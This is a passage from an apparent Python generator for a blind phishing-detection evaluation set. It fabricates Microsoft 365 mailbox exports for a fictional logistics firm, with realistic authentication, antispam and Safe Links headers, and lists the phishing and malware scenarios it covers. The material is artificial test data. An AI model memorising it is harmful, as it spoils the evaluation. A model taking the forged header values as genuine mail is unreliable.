#!/usr/bin/env python3
"""Blind evaluation set 24: a US logistics and engineering firm's "Report phishing" export.

Recipients: Corliss Harbor Logistics & Engineering, Inc. (corlissharbor.com, Toledo, Ohio,
about 800 staff: dispatch, fleet, warehousing, structural and civil engineering, back office).
The company runs Microsoft 365 (Exchange Online Protection + Defender for Office 365). Its SOC
exported what users reported with the Outlook "Report phishing" button between 2024 and 2026,
as the messages sat in the users' mailboxes: Microsoft's receiving hops (EOP front end, then
the user's mailbox server), Authentication-Results with compauth, Received-SPF, the
X-Forefront-Antispam-Report / X-Microsoft-Antispam verdicts and the X-MS-Exchange-Organization-*
headers. Safe Links was switched on for all users on 1 April 2025, so URLs in the bodies of
external mail received from that date on are rewritten to nam12.safelinks.protection.outlook.com
(attachments and QR images are not rewritten). Some reports came out of the Junk folder.

Attacks (50, samples/mail/phishing and samples/mail/malware):
  * adversary-in-the-middle kits (Tycoon 2FA, EvilProxy, Rockstar 2FA, Mamba 2FA style) behind
    Cloudflare Turnstile pages, reached through compromised WordPress sites, pages.dev/r2.dev/
    workers.dev, IPFS gateways and open redirectors (Indeed, Google AMP, YouTube);
  * QR codes in the body or in a PDF (MFA re-enrolment, benefits enrolment, W-2);
  * DocuSign / Adobe Sign / Dropbox Sign look-alikes and genuine-service abuse (DocuSign API
    invoice callback, Dropbox Sign, Dropbox, Google Docs, Microsoft Forms, Canva, Teams chat);
  * HR and payroll lures, voicemail and Teams notifications, SharePoint/OneDrive shares from a
    compromised vendor tenant, invoices and remittances with HTML/SVG attachments;
  * vendor email compromise with bank-detail changes in real reply threads (compromised mailbox
    and look-alike domain), CEO fraud (gift cards, wire, W-2 request), payroll diversion,
    advance-fee vendor registration;
  * fake IT help desk (password expiry, mailbox migration, quarantine digest, Intune), fake
    subpoena and DMCA notices, fake Teams support callback, PayPal invoice callback;
  * ClickFix "verify you are human" pages and malware droppers (ISO, IMG, LNK in ZIP, JScript in
    ZIP, OneNote).
Legitimate (25, samples/mail/clean and samples/mail/bulk): genuine Microsoft 365 notifications
(security info added, SSPR reset, SharePoint shares from colleagues and partners, Teams activity,
quarantine digest, Teams voicemail), DocuSign / Adobe Sign / Dropbox from real customers and
partners, ADP / Workday / bswift benefit notices, vendor invoices, statements and remittances,
internal IT and HR notices, newsletters with tracking links, colleagues' mail.

Every file is written byte for byte (mime.py) and re-running gives identical output.
"""

from __future__ import annotations

import base64
import hashlib
import re
import sys
import uuid
import zlib
from datetime import datetime, timedelta
from email import policy
from email.parser import BytesParser
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE))

import files  # noqa: E402
from mime import Leaf, Multi, message, text  # noqa: E402

ROOT = HERE.parent.parent
OUT = ROOT / "samples" / "mail"
MANIFEST = HERE / "blind24_manifest.txt"
N = 24

ORG = "corlissharbor.com"
TENANT = "7c1e4a92-5b3d-4f0e-9a61-2d8f3b6c0e47"
SAFE_LINKS_FROM = datetime(2025, 4, 1)

USERS = {k: (n, f"{k}@{ORG}") for k, n in [
    ("moyelaran", "Marcus Oyelaran"), ("dwhitfield", "Dana Whitfield"), ("praman", "Priya Raman"),
    ("tkaczmarek", "Tom Kaczmarek"), ("jholloway", "Jenna Holloway"), ("lortega", "Luis Ortega"),
    ("klindqvist", "Karen Lindqvist"), ("badeyemi", "Ben Adeyemi"), ("rsutter", "Rachel Sutter"),
    ("gmahoney", "Greg Mahoney"), ("acoleman", "Aisha Coleman"), ("edunleavy", "Eric Dunleavy"),
    ("sprice", "Samantha Price"), ("ktran", "Kevin Tran"), ("mgonzalez", "Maria Gonzalez"),
    ("htanabe", "Hiroshi Tanabe"), ("nbrooks", "Nicole Brooks"), ("jfitzgerald", "James Fitzgerald"),
    ("aweiss", "Anna Weiss"), ("dpatel", "Devin Patel")]}
SIG = {  # Outlook signatures of colleagues
    "badeyemi": "Ben Adeyemi\nIT Service Desk Lead | Corliss Harbor Logistics & Engineering\n(419) 555-0142",
    "jholloway": "Jenna Holloway, SHRM-CP\nHR Generalist | Corliss Harbor\n2200 Front Street, Toledo, OH 43605",
    "lortega": "Luis Ortega, P.E.\nProject Engineer\nCorliss Harbor Logistics & Engineering",
    "moyelaran": "Marcus",
    "aweiss": "Anna Weiss | Project Manager\nCorliss Harbor Logistics & Engineering\nM (419) 555-0187",
}
MONTHS = "Jan Feb Mar Apr May Jun Jul Aug Sep Oct Nov Dec".split()
DAYS = "Mon Tue Wed Thu Fri Sat Sun".split()
# DMARC policies of the From domains that publish one; the others (look-alikes) have none.
DMARC = {ORG: "quarantine", "gmail.com": "none", "outlook.com": "none", "docusign.net": "reject",
         "microsoft.com": "reject", "sharepointonline.com": "reject", "paypal.com": "reject",
         "adp.com": "reject", "dropbox.com": "reject", "google.com": "reject", "adobesign.com": "quarantine",
         "hellosign.com": "reject", "myworkday.com": "reject", "bswift.com": "quarantine",
         "intuit.com": "reject", "ups.com": "reject", "glsteelfab.com": "none", "ardentcrane.com": "quarantine",
         "norvalefoods.com": "reject", "pinecrestenv.com": "none", "tricountytransit.org": "quarantine",
         "freightwaves.com": "none", "enr.com": "none", "bill.com": "reject", "haldenstructural.com": "quarantine",
         "email.teams.microsoft.com": "reject", "messaging.microsoft.com": "reject", "canva.com": "reject",
         "midwesttirefleet.com": "none", "harborviewmarine.com": "quarantine", "wcc-ohio.edu": "none", "microsoftonline.com": "reject", "accountprotection.microsoft.com": "reject", "lakeviewdist.com": "none"}


# ----------------------------------------------------------------------------- small helpers
def hx(seed: str, n: int = 32) -> str:
    out = ""
    while len(out) < n:
        out += hashlib.sha256(f"{seed}/{len(out)}".encode()).hexdigest()
    return out[:n]


def num(seed: str, lo: int, hi: int) -> int:
    return lo + int(hx(seed, 12), 16) % (hi - lo + 1)


def b64s(seed: str, n: int) -> str:
    raw = b"".join(hashlib.sha512(f"{seed}#{i}".encode()).digest() for i in range(n // 64 + 2))
    return base64.b64encode(raw).decode()[:n]


def tok(seed: str, n: int) -> str:
    """URL-safe random-looking token."""
    return b64s(seed, n * 2).replace("+", "").replace("/", "")[:n]


def guid(seed: str) -> str:
    h = hx(seed)
    return f"{h[:8]}-{h[8:12]}-4{h[13:16]}-{'89ab'[int(h[16], 16) % 4]}{h[17:20]}-{h[20:]}"


def parse_t(s: str) -> datetime:
    return datetime.strptime(s, "%Y-%m-%d %H:%M:%S" if s.count(":") == 2 else "%Y-%m-%d %H:%M")


def rfc(dt: datetime, off: int = 0) -> str:
    lt = dt + timedelta(minutes=off)
    sign = "+" if off >= 0 else "-"
    return (f"{DAYS[lt.weekday()]}, {lt.day} {MONTHS[lt.month - 1]} {lt.year} {lt:%H:%M:%S} "
            f"{sign}{abs(off) // 60:02d}{abs(off) % 60:02d}")


def eastern(dt: datetime) -> int:
    return -240 if 3 < dt.month < 11 or (dt.month == 3 and dt.day > 10) or (dt.month == 11 and dt.day < 3) else -300


def enc(s: str) -> str:
    """RFC 2047 B-encoding (UTF-8) for non-ASCII header text, split into short encoded words."""
    if s.isascii():
        return s
    words, chunk = [], ""
    for ch in s:
        if len((chunk + ch).encode()) > 42:
            words.append(chunk)
            chunk = ""
        chunk += ch
    words.append(chunk)
    return "\n ".join("=?UTF-8?B?" + base64.b64encode(w.encode()).decode() + "?=" for w in words)


def addr(name: str, email: str) -> str:
    if not name:
        return f"<{email}>"
    if not name.isascii():
        return f"{enc(name)} <{email}>"
    return f'"{name}" <{email}>' if re.search(r'[,.;:()<>@\[\]"|&]', name) else f"{name} <{email}>"


def who(x) -> tuple[str, str]:
    return USERS[x] if isinstance(x, str) else x


def org_domain(d: str) -> str:
    return ".".join(d.lower().split(".")[-2:])


def fold_b(value: str, width: int = 70) -> str:
    return "\n\t ".join(value[i:i + width] for i in range(0, len(value), width))


def dkim_sig(d: str, s: str, seed: str, hdrs: str, t: datetime | None = None, x: str = "") -> str:
    stamp = f" t={int((t - datetime(1970, 1, 1)).total_seconds())};" if t else ""
    return (f"DKIM-Signature: v=1; a=rsa-sha256; c=relaxed/relaxed; d={d};\n\ts={s};{stamp}{x}\n"
            f"\th={hdrs};\n\tbh={b64s(seed + d + 'bh', 43)}=;\n\tb={fold_b(b64s(seed + d, 342) + '==')}")


def ex_build(dt: datetime) -> str:
    months = (dt.year - 2024) * 12 + dt.month - 1
    return f"15.20.{7180 + months * 61 + num(str(dt), 0, 40)}.{num(str(dt) + 'b', 10, 48)}"


FES = ["BN2PEPF000044A6.namprd04", "SJ1PEPF00001CE1.namprd05", "CO1PEPF000075F2.namprd03", "DS2PEPF00003447.namprd04",
       "MW2PEPF000032E3.namprd03", "BL6PEPF0001AB53.namprd02", "CH2PEPF0000009A.namprd04", "SN1PEPF0002529E.namprd05"]


def mbx_of(email: str, region: str = "namprd12", prefix: str = "PH0PR12MB") -> str:
    return f"{prefix}{num(email, 1000, 9899)}.{region}"


def v6(seed: str, cafe: bool = False) -> str:
    h = hx(seed, 12)
    return f"2603:10b6:{h[:3].lstrip('0') or '1'}:{h[3:6].lstrip('0') or '2'}:" + (f"cafe::{h[6:8]}" if cafe else f":{h[8:10]}")


# ----------------------------------------------------------------------------- sending infrastructures
def v_m365(domain: str, onms: str | None = None, region: str = "namprd19", ip: str | None = None, ctry: str = "US"):
    """A Microsoft 365 tenant sending outbound (vendors, compromised mailboxes, attacker trial tenants)."""
    d = (f"{onms}.onmicrosoft.com", f"selector1-{domain.replace('.', '-')}") if onms else (domain, "selector1")
    return dict(k="m365", domain=domain, dkim=[d], region=region, ip=ip, ctry=ctry)


def v_gmail(ctry: str = "US"):
    return dict(k="gmail", ctry=ctry)


def v_outlookcom(ctry: str = "US"):
    return dict(k="outlookcom", ctry=ctry)


def v_esp(helo: str, ip: str, mfrom: str, dkim=(), mid: str = "", hdrs=(), origin: str = "", ctry: str = "US"):
    """A mail service (ESP, SaaS notifier, kit VPS): the host that reached EOP and what it signed."""
    return dict(k="esp", helo=helo, ip=ip, mfrom=mfrom, dkim=list(dkim), mid=mid, hdrs=list(hdrs), origin=origin,
                ctry=ctry)


INT = dict(k="int")
DKIM_H = "From:Date:Subject:Message-ID:To:MIME-Version:Content-Type"


# ----------------------------------------------------------------------------- body finishing
def boundary(style: str, seed: str, i: int) -> str:
    h = hx(f"{seed}/b{i}", 40)
    return {"ol": f"_00{i}_SA1PR12MB{num(seed, 1000, 9899)}{h[:24].upper()}_",
            "gm": f"0000000000{h[:18]}", "php": f"b1=_{tok(seed + str(i), 42)}",
            "java": f"----=_Part_{num(seed + str(i), 10000, 999999)}_{num(seed, 100000, 9999999)}.{num(seed, 10**12, 2 * 10**12)}",
            "sg": h, "mc": f"_----------=_MCPart_{num(seed + str(i), 10**8, 10**9)}",
            "ms": f"--boundary_{num(seed + str(i), 1000, 9999)}_{guid(seed + str(i))}",
            "ds": f"----=_NextPart_{h[:8].upper()}.{h[8:16].upper()}",
            "py": f"==============={num(seed + str(i), 10**18, 10**19 - 1)}=="}.get(style, style)


def safelink(url: str, rcpt: str, nmid: str, t: datetime) -> str:
    ticks = 621355968000000000 + int((t - datetime(1970, 1, 1)).total_seconds() * 10**7)
    data = (f"05|02|{rcpt}|{nmid.replace('-', '')}|{TENANT.replace('-', '')}|0|0|{ticks}|Unknown|"
            "TWFpbGZsb3d8eyJFbXB0eU1hcGkiOnRydWUsIlYiOiIwLjAuMDAwMCIsIlAiOiJXaW4zMiIsIkFOIjoiTWFpbCIsIldUIjoyfQ==|0|||")
    return (f"https://nam12.safelinks.protection.outlook.com/?url={quote(url, safe='')}&data={quote(data, safe='')}"
            f"&sdata={quote(b64s(url + nmid, 43) + '=', safe='')}&reserved=0")


def finish(node, seed: str, wrap=None, counter=None):
    """Give multiparts their boundaries and, when Safe Links applies, rewrite body URLs."""
    counter = counter if counter is not None else [0]
    if isinstance(node, Multi):
        node.boundary = boundary(node.boundary, seed, counter[0])
        counter[0] += 1
        for p in node.parts:
            finish(p, seed, wrap, counter)
    elif wrap and node.content_type in ("text/plain", "text/html") and not node.disposition:
        body = node.data.decode("utf-8")
        if node.content_type == "text/html":
            body = re.sub(r'href="(https?://[^"]+)"',
                          lambda mm: 'href="' + wrap(mm.group(1).replace("&amp;", "&")).replace("&", "&amp;") + '"',
                          body)
        else:
            body = re.sub(r"https?://[^\s<>\"\]]+", lambda mm: wrap(mm.group(0)), body)
        node.data = body.encode("utf-8")
    return node


# ----------------------------------------------------------------------------- the message
def thread_index(seed: str, replies: int = 0) -> str:
    raw = bytes.fromhex(hx(seed + "ti", 44)) + bytes.fromhex(hx(seed + "tr", 10 * replies))
    return base64.b64encode(raw).decode()


ARA = "ARA:13230040|4022899009|82310400026|1800799024|69100299015|376014|8096899003;"


def build(m: dict) -> bytes:
    seed, v = m["slug"], m["via"]
    t0 = parse_t(m["date"])
    t1 = t0 + timedelta(seconds=num(seed + "lat", 1, 9), microseconds=num(seed, 0, 999999))
    t2 = t1 + timedelta(milliseconds=num(seed + "l2", 180, 900))
    name, email = who(m["frm"])
    to = [who(x) for x in m.get("to", [])]
    rcpt = who(m.get("rcpt", to[0] if to else None))[1]
    build_id = ex_build(t0)
    nmid = guid(seed + "nmid")
    mbx = mbx_of(rcpt)
    off = m.get("tz", eastern(t0))
    subject = m["subject"]
    topic = re.sub(r"^((RE|FW|Fwd|AW):\s*)+", "", subject, flags=re.I)
    hdr_from = addr(name, email)
    top, sender, mid, mfrom = [], [], m.get("mid"), email
    ol_hdrs = [f"Thread-Topic: {enc(topic)}", f"Thread-Index: {thread_index(seed, m.get('replies', 0))}"]
    ol_tail = ["Accept-Language: en-US", "Content-Language: en-US",
               f"X-MS-Has-Attach: {'yes' if m.get('attach') else ''}".rstrip(), "X-MS-TNEF-Correlator:"]
    ms_ts = f"{t1.day:02d} {MONTHS[t1.month - 1]} {t1.year} {t1:%H:%M:%S}.{t1.microsecond // 100:04d} (UTC)"
    latency = f"X-MS-Exchange-Transport-EndToEndLatency: 00:00:{num(seed, 1, 9):02d}.{num(seed + 'e', 10**6, 9999999)}"
    if v["k"] == "int":
        smbx = mbx_of(email)
        mid = mid or f"<{smbx.split('.')[0]}{hx(seed + 'mid', 20).upper()}@{smbx}.prod.outlook.com>"
        top = [f"Received: from {smbx}.prod.outlook.com ({v6(smbx)}) by\n {mbx}.prod.outlook.com with HTTPS; {rfc(t2)}",
               f"Received: from {smbx}.prod.outlook.com\n ({v6(smbx)}) by {smbx}.prod.outlook.com\n ({v6(smbx)}) with "
               f"Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build_id}; {rfc(t1)}"]
        sender = ol_hdrs
        tail = ol_tail + ["X-MS-Exchange-Organization-SCL: -1", "msip_labels:",
                          f"Authentication-Results: dkim=none (message not signed)\n header.d=none;dmarc=none action=none header.from={ORG};",
                          "X-MS-Exchange-Organization-RecordReviewCfmType: 0", "x-ms-publictraffictype: Email",
                          "X-MS-Exchange-Organization-AuthAs: Internal", "X-MS-Exchange-Organization-AuthMechanism: 04",
                          f"X-MS-Exchange-Organization-AuthSource: {smbx}.prod.outlook.com",
                          f"X-MS-Exchange-Organization-Network-Message-Id: {nmid}", "X-MS-Exchange-Organization-MessageDirectionality: "
                          "Originating", latency, f"X-MS-Exchange-Processed-By-BccFoldering: {build_id}",
                          "X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:I;ENG:(910001)(944506478)(944626604)(920097)(425001)(930097)(140003);",
                          f"Return-Path: {email}"]
    else:
        dk = list(v.get("dkim", []))
        extra_top = []
        if v["k"] in ("m365", "outlookcom"):
            consumer = v["k"] == "outlookcom"
            region = "namprd17" if consumer else v["region"]
            pre = ["SA1", "BY5", "MN2", "DS0", "CH3", "PH7", "SJ0", "DM6"][num(email, 0, 7)] + f"PR{region[-2:]}MB"
            smbx = f"{pre}{num(email.split('@')[1], 1000, 9899)}.{region}"
            helo = ("NAM11-BN8" if consumer else ["NAM10-DM6", "NAM11-CO1", "NAM12-BN8", "NAM04-MW2", "NAM02-SN1"][
                num(email, 0, 4)]) + "-obe.outbound.protection.outlook.com"
            ip = v.get("ip") or (f"40.92.{num(seed, 16, 63)}.{num(seed + 'i', 10, 250)}" if consumer
                                 else f"40.107.{num(email, 200, 244)}.{num(seed + 'i', 10, 250)}")
            if consumer:
                dk = [(email.split("@")[1], "selector1")]
            mid = mid or f"<{smbx.split('.')[0]}{hx(seed + 'mid', 20).upper()}@{smbx}.prod.outlook.com>"
            arc_auth = (f"ARC-Authentication-Results: i=1; mx.microsoft.com 1; spf=pass\n smtp.mailfrom={email.split('@')[1]}; "
                        f"dmarc=pass action=none\n header.from={email.split('@')[1]}; dkim=pass\n header.d={dk[0][0]}; arc=none")
            extra_top = [f"ARC-Seal: i=1; a=rsa-sha256; s=arcselector10001; d=microsoft.com; cv=none;\n b={fold_b(b64s(seed + 'as', 342) + '==')}",
                         f"ARC-Message-Signature: i=1; a=rsa-sha256; c=relaxed/relaxed; d=microsoft.com;\n s=arcselector10001;\n "
                         "h=From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-AntiSpam-MessageData-ChunkCount:"
                         "X-MS-Exchange-AntiSpam-MessageData-0:X-MS-Exchange-AntiSpam-MessageData-Original-BodyHash;\n "
                         f"bh={b64s(seed + 'abh', 43)}=;\n b={fold_b(b64s(seed + 'ams', 342) + '==')}", arc_auth]
            origin = (f"Received: from {smbx}.prod.outlook.com\n ({v6(smbx)}) by {smbx}.prod.outlook.com\n ({v6(smbx)}) with "
                      f"Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build_id}; {rfc(t0)}")
            sender = ol_hdrs
            tail_sender = ol_tail + ([f"x-tmn: [{tok(seed + 'tmn', 32)}]", "x-ms-exchange-messagesentrepresentingtype: 1"]
                                     if consumer else ["X-MS-Exchange-SenderADCheck: 1", "X-MS-Exchange-AntiSpam-Relay: 0"])
        elif v["k"] == "gmail":
            g = ["wr1", "ej1", "pl1", "qk1", "yb1", "oi1"][num(seed, 0, 5)]
            n = num(seed + "g", 41, 179)
            helo, ip = f"mail-{g}-f{n}.google.com", f"209.85.{num(seed, 128, 222)}.{n}"
            dk = [("gmail.com", "20230601")]
            mid = mid or f"<CA{tok(seed + 'gm', 3)}+{tok(seed + 'gm2', 36)}{tok(seed, 8)}@mail.gmail.com>"
            sid = f"{hx(seed + 'sid', 8)}-{hx(seed + 's2', 11)}so{num(seed, 1000000, 9999999)}.{num(seed, 0, 9)}"
            origin = f"Received: by {helo} with SMTP id {sid}\n        for <{rcpt}>; {rfc(t0, -420 if eastern(t0) == -240 else -480)}"
            extra_top = [dkim_sig("1e100.net", "20230601", seed + "x", "x-gm-message-state:" + DKIM_H.lower().replace("from:", "from:x-gm-gg:"), t0).replace(
                "DKIM-Signature", "X-Google-DKIM-Signature")]
            sender = ["MIME-Version: 1.0"]
            tail_sender = [f"X-Gm-Message-State: {fold_b(b64s(seed + 'gms', 120), 76)}",
                           f"X-Google-Smtp-Source: {fold_b(b64s(seed + 'gss', 100), 76)}",
                           f"X-Received: by 2002:a17:907:{hx(seed, 4)}:b0:{hx(seed + 'x', 3)}:{hx(seed + 'y', 4)} with SMTP id\n {hx(seed + 'sid2', 8)}mr{num(seed, 10**6, 10**7)}ejb.{num(seed, 10, 99)}; {rfc(t0, -420 if eastern(t0) == -240 else -480)}"]
        else:
            helo, ip = v["helo"], v["ip"]
            mfrom = v["mfrom"] or email
            origin = v["origin"].format(t=rfc(t0, m.get("otz", 0)), rcpt=rcpt, h=hx(seed + "o", 12).upper()) if v["origin"] else ""
            mt = v["mid"] or f"<{hx(seed + 'mid', 24)}@{email.split('@')[1]}>"
            mid = mid or mt.format(h=hx(seed + "mid", 32), g=guid(seed + "mid"), t=int((t0 - datetime(1970, 1, 1)).total_seconds()) * 1000 + num(seed, 0, 999),
                                   H=hx(seed + "mid", 16).upper(), r=tok(seed + "mid", 22))
            sender = []
            tail_sender = list(v["hdrs"])
        mfrom = m.get("mfrom", mfrom)
        mdom, fdom = mfrom.split("@")[1].lower(), email.split("@")[1].lower()
        spf = m.get("spf", "pass")
        dkr = m.get("dkim", "pass" if dk else "none")
        pol = DMARC.get(fdom, DMARC.get(org_domain(fdom)))
        aligned = (spf == "pass" and org_domain(mdom) == org_domain(fdom)) or (
            dkr == "pass" and any(org_domain(d) == org_domain(fdom) for d, s in dk))
        if pol is None:
            dmarc, action = ("bestguesspass" if aligned else "none"), "none"
            comp = "pass reason=109" if aligned else ("softpass reason=201" if spf == "pass" or dkr == "pass" else "fail reason=001")
        elif aligned:
            dmarc, action, comp = "pass", "none", "pass reason=100"
        else:
            dmarc, action = "fail", {"none": "none", "quarantine": "quarantine", "reject": "oreject"}[pol]
            comp = ("fail reason=010" if fdom == ORG else "fail reason=000") if pol != "none" else "fail reason=001"
        comp = m.get("compauth", comp)
        dkd = next((d for d, s in dk if org_domain(d) == org_domain(fdom)), dk[0][0] if dk else "none")
        dkim_txt = {"pass": "dkim=pass (signature was verified)", "none": "dkim=none (message not signed)",
                    "fail": "dkim=fail (body hash did not verify)"}[dkr]
        spf_txt = {"pass": "Pass (protection.outlook.com: domain of {d} designates {ip} as permitted sender)",
                   "fail": "Fail (protection.outlook.com: domain of {d} does not designate {ip} as permitted sender)",
                   "softfail": "SoftFail (protection.outlook.com: domain of transitioning {d} discourages use of {ip} as permitted sender)",
                   "none": "None (protection.outlook.com: {d} does not designate permitted sender hosts)"}[spf]
        fe = FES[num(seed + "fe", 0, len(FES) - 1)]
        scl = m.get("scl", 1)
        ptr = m.get("ptr", helo)
        fcat = m.get("fcat", "NONE" if scl < 5 else "SPM")
        bcl = m.get("bcl", 0)
        top = [f"Received: from {fe}.prod.outlook.com\n ({v6(fe, True)}) by {mbx}.prod.outlook.com\n ({v6(mbx)}) with "
               f"Microsoft SMTP Server (version=TLS1_2,\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id {build_id}; {rfc(t2)}",
               f"Authentication-Results: spf={spf} (sender IP is {ip})\n smtp.mailfrom={mdom}; {dkim_txt}\n header.d={dkd if dkr != 'none' else 'none'};"
               f"dmarc={dmarc} action={action}\n header.from={fdom};compauth={comp}",
               f"Received-SPF: {spf_txt.format(d=mdom, ip=ip)}\n receiver=protection.outlook.com; client-ip={ip};\n helo={helo};"
               + (" pr=C" if spf == "pass" else ""),
               f"Received: from {helo} ({ip}) by\n {fe.split('.')[0]}.mail.protection.outlook.com (10.167.{num(fe, 16, 250)}.{num(fe + 'x', 2, 250)}) with Microsoft SMTP\n"
               f" Server (version=TLS1_3, cipher=TLS_AES_256_GCM_SHA384) id {build_id}\n via Frontend Transport; {rfc(t1)}"]
        top += extra_top
        dkim_hdrs = m.get("dkim_h", DKIM_H + (":Reply-To" if any(h.startswith("Reply-To") for h in m.get("hdrs", [])) else ""))
        top += [dkim_sig(d, s, seed, dkim_hdrs, t0 if v["k"] not in ("m365",) else None) for d, s in dk]
        if origin:
            top.append(origin)
        fe_s, mbx_s = fe.split(".")[0], mbx.split(".")[0]
        dest = "J" if scl >= 5 else "I"
        tail = tail_sender + [
            f"Return-Path: {mfrom}",
            f"X-MS-Exchange-Organization-ExpirationStartTime: {ms_ts}", "X-MS-Exchange-Organization-ExpirationStartTimeReason: "
            "OriginalSubmit", "X-MS-Exchange-Organization-ExpirationInterval: 1:00:00:00.0000000",
            "X-MS-Exchange-Organization-ExpirationIntervalReason: OriginalSubmit", f"X-MS-Exchange-Organization-Network-Message-Id:\n {nmid}",
            "X-EOPAttributedMessage: 0", f"X-EOPTenantAttributedMessage: {TENANT}:0",
            "X-MS-Exchange-Organization-MessageDirectionality: Incoming", "X-MS-PublicTrafficType: Email",
            f"X-MS-TrafficTypeDiagnostic: {fe_s}:EE_|{mbx_s}:EE_|{mbx_s}:EE_",
            f"X-MS-Exchange-Organization-AuthSource:\n {fe}.prod.outlook.com", "X-MS-Exchange-Organization-AuthAs: Anonymous",
            f"X-MS-Office365-Filtering-Correlation-Id: {nmid}", f"X-MS-Exchange-Organization-SCL: {scl}", f"X-Microsoft-Antispam: BCL:{bcl};{ARA}",
            f"X-Forefront-Antispam-Report:\n CIP:{ip};CTRY:{v.get('ctry', 'US')};LANG:{m.get('lang', 'en')};SCL:{scl};SRV:{'BULK' if bcl >= 4 else ''};"
            f"IPV:NLI;SFV:{'SPM' if scl >= 5 else 'NSPM'};H:{helo};PTR:{ptr};CAT:{fcat};\n SFS:(13230040)(4022899009)(82310400026)"
            f"(1800799024)(69100299015)(376014)(8096899003);DIR:INB;",
            f"X-MS-Exchange-AtpMessageProperties: {'SA|SL' if t0 >= SAFE_LINKS_FROM else 'SA'}", f"X-MS-Exchange-CrossTenant-"
            f"OriginalArrivalTime: {ms_ts}",
            f"X-MS-Exchange-CrossTenant-Network-Message-Id: {nmid}", f"X-MS-Exchange-CrossTenant-Id: {TENANT}",
            f"X-MS-Exchange-CrossTenant-AuthSource:\n {fe}.prod.outlook.com",
            "X-MS-Exchange-CrossTenant-AuthAs: Anonymous", "X-MS-Exchange-CrossTenant-FromEntityHeader: Internet",
            f"X-MS-Exchange-Transport-CrossTenantHeadersStamped: {mbx_s}", latency, f"X-MS-Exchange-Processed-By-BccFoldering: {build_id}",
            f"X-Microsoft-Antispam-Mailbox-Delivery:\n\tucf:0;jmr:0;auth:0;dest:{dest};ENG:(910001)(944506478)(944626604)(920097)(930097)(3100021)(140003);",
            f"X-Microsoft-Antispam-Message-Info:\n\t{fold_b(b64s(seed + 'mi', 420), 76)}"]
    to_h = ",\n\t".join(addr(*x) for x in to) if to else "undisclosed-recipients:;"
    heads = top + [f"From: {hdr_from}", f"To: {to_h}"]
    if m.get("cc"):
        heads.append("CC: " + ",\n\t".join(addr(*who(x)) for x in m["cc"]))
    heads += [f"Subject: {enc(subject)}"] + sender + [f"Date: {rfc(t0, off)}", f"Message-ID: {mid}"]
    heads += list(m.get("hdrs", [])) + tail
    wrap = None
    if v["k"] != "int" and t0 >= SAFE_LINKS_FROM and not m.get("nosl"):
        def wrap(u):
            return safelink(u, rcpt, nmid, t1)
    body = finish(m["body"], seed, wrap)
    return message("\n".join(heads), body)


# ----------------------------------------------------------------------------- body builders
def esc(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def h2t(html: str) -> str:
    """The text alternative a mailer derives from its HTML."""
    t = re.sub(r"(?is)<(style|title|head)[^>]*>.*?</\1>", "", html)
    t = re.sub(r'(?is)<a [^>]*href="([^"]+)"[^>]*>(.*?)</a>',
               lambda mm: mm.group(2) if re.sub("<[^>]+>", "", mm.group(2)).strip() == mm.group(1).replace("&amp;", "&")
               else f"{mm.group(2)} \x02{mm.group(1)}\x03", t)
    t = re.sub(r"(?i)<br\s*/?>|</p>|</tr>|</h\d>|</div>|</li>", "\n", t)
    t = re.sub(r"<[^>]+>", "", t).replace("&nbsp;", " ").replace("&amp;", "&").replace("&lt;", "<").replace("&gt;", ">")
    t = t.replace("\x02", "<").replace("\x03", ">")
    t = t.replace("&#8226;", "*").replace("&copy;", "(c)").replace("&middot;", "-").replace("&rsquo;", "'")
    lines = [ln.strip() for ln in t.splitlines()]
    return re.sub(r"\n{3,}", "\n\n", "\n".join(lines)).strip() + "\n"


def alt(txt: str, html: str, b: str = "sg") -> Multi:
    return Multi("alternative", b, [text(txt), text(html, "html")])


def plain(t: str, encoding: str = "quoted-printable") -> Leaf:
    return text(t, "plain", encoding)


def mixed(b: str, *parts) -> Multi:
    return Multi("mixed", b, list(parts))


def related(b: str, *parts) -> Multi:
    return Multi("related", b, list(parts), ' type="text/html";')


def att(ctype: str, name: str, data: bytes, inline: bool = False, cid: str | None = None) -> Leaf:
    disp = f'{"inline" if inline else "attachment"}; filename="{name}"'
    extra = [f"Content-ID: <{cid}>"] if cid else []
    return Leaf(ctype, data, "base64", f'; name="{name}"', disp, extra)


def linkify(s: str) -> str:
    return re.sub(r"(https?://[^\s<>]+)", r'<a href="\1">\1</a>', esc(s))


OL_HEAD = ('<html xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" '
           'xmlns:w="urn:schemas-microsoft-com:office:word" xmlns:m="http://schemas.microsoft.com/office/2004/12/omml" '
           'xmlns="http://www.w3.org/TR/REC-html40">\n<head>\n<meta http-equiv="Content-Type" content="text/html; charset=utf-8">\n'
           '<meta name="Generator" content="Microsoft Word 15 (filtered medium)">\n<style><!--\n'
           '@font-face\n\t{font-family:Aptos;}\np.MsoNormal, li.MsoNormal, div.MsoNormal\n\t{margin:0in;\n\tfont-size:12.0pt;\n\t'
           'font-family:"Aptos",sans-serif;}\na:link, span.MsoHyperlink\n\t{mso-style-priority:99;\n\tcolor:#467886;\n\t'
           'text-decoration:underline;}\n.MsoChpDefault\n\t{mso-style-type:export-only;\n\tfont-size:11.0pt;}\n'
           '@page WordSection1\n\t{size:8.5in 11.0in;\n\tmargin:1.0in 1.0in 1.0in 1.0in;}\ndiv.WordSection1\n\t{page:WordSection1;}\n'
           '--></style>\n</head>\n<body lang="EN-US" link="#467886" vlink="#96607D" style="word-wrap:break-word">\n<div class="WordSection1">\n')


def outlook(paras, sig: str = "", quote=(), b: str = "ol", extra_html: str = "") -> Multi:
    """A message typed in Outlook: text/plain + Word-generated HTML, with an optional quoted thread."""
    sig_lines = sig.splitlines()
    txt = "\n\n".join(paras) + ("\n\n" + "\n".join(sig_lines) if sig else "") + "\n"
    html = OL_HEAD
    for p in paras:
        html += f'<p class="MsoNormal">{linkify(p).replace(chr(10), "<br>")}<o:p></o:p></p>\n<p class="MsoNormal"><o:p>&nbsp;</o:p></p>\n'
    if sig:
